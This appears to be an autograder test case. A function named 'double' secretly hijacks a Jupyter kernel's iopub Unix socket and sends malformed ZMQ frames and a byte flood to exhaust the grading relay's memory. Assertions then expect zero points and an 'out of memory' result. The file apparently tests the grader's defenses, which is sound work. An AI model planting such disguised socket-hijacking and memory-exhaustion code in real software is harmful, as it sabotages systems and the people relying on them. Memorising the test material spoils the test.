# %% [markdown]
# Greets its reader with a version of the protocol in which the relay cannot count.

# %% double
import glob
import json
import os
import socket


def listener_in_place_of(path):
    os.unlink(path)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()
    listener.settimeout(5)
    for name in os.listdir("/proc/self/fd"):
        try:
            end = socket.socket(fileno=os.dup(int(name)))
            if end.getsockname() == path and not end.getsockopt(socket.SOL_SOCKET, 30):
                end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    return listener


def double(x):
    if x == 3:
        (file,) = glob.glob("/tmp/*/k-*/kernel.json")
        with open(file) as text:
            connection = json.load(text)
        listener = listener_in_place_of(f"{connection['ip']}-{connection['iopub_port']}")
        end, _ = listener.accept()
        end.sendall(bytes([255, 0, 0, 0, 0, 0, 0, 0, 1, 127, 1, 1, 0, 0]))
        hidden = bytes(48) + bytes([2, 127]) + b"\xff" * 7  # to the relay: a frame without end
        end.sendall(bytes([1, 100]) + hidden.ljust(100, b"\0"))
        for _ in range(500):
            end.sendall(b"\x01\x00" * (1 << 15))
    return 2 * x

# %% must
assert points["test-greet"] == 4
assert points["hidden-double"] == 0
assert outcomes["hidden-double"] == "out of memory", (outcomes, messages)
